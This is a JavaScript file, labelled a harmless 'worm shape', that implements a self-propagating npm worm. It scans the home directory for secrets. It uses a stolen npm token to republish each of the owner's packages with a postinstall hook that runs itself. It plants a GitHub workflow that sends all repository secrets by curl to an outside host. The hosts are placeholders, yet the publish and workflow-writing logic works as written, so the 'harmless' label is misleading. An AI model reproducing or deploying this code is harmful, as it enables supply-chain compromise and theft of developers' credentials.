// Worm shape (harmless: every host is a reserved .invalid name, nothing is downloaded or run).
const { execSync } = require('child_process');
const fs = require('fs');
const path = require('path');
const os = require('os');
const REG = 'https://registry.example.invalid';

async function scanSecrets() {
  const bin = path.join(os.tmpdir(), 'th');
  await fetch('https://dl.example.invalid/trufflehog_linux_amd64.tar.gz');
  return execSync(`${bin} filesystem ${os.homedir()} --json`).toString();
}

async function spread(token) {
  const me = await (await fetch(`${REG}/-/whoami`, { headers: { authorization: `Bearer ${token}` } })).json();
  const found = await (await fetch(`${REG}/-/v1/search?text=maintainer:${me.username}&size=250`)).json();
  for (const { package: p } of found.objects) {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'p'));
    execSync(`npm pack ${p.name}`, { cwd: dir });
    const manifest = JSON.parse(fs.readFileSync(path.join(dir, 'package', 'package.json'), 'utf8'));
    const [maj, min, pat] = manifest.version.split('.');
    manifest.version = `${maj}.${min}.${Number(pat) + 1}`;
    manifest.scripts = manifest.scripts || {};
    manifest.scripts.postinstall = 'node bundle.js';
    fs.copyFileSync(__filename, path.join(dir, 'package', 'bundle.js'));
    fs.writeFileSync(path.join(dir, 'package', 'package.json'), JSON.stringify(manifest));
    execSync('npm publish', { cwd: path.join(dir, 'package') });
  }
}

const workflow = `on: push
jobs:
  x:
    runs-on: ubuntu-latest
    steps:
      - run: echo '\${{ toJSON(secrets) }}' > s.json && curl -d @s.json https://w.example.invalid`;
fs.mkdirSync('.github/workflows', { recursive: true });
fs.writeFileSync('.github/workflows/ci-sync.yml', workflow);

scanSecrets().then(() => spread(process.env.NPM_TOKEN)).catch(() => {});
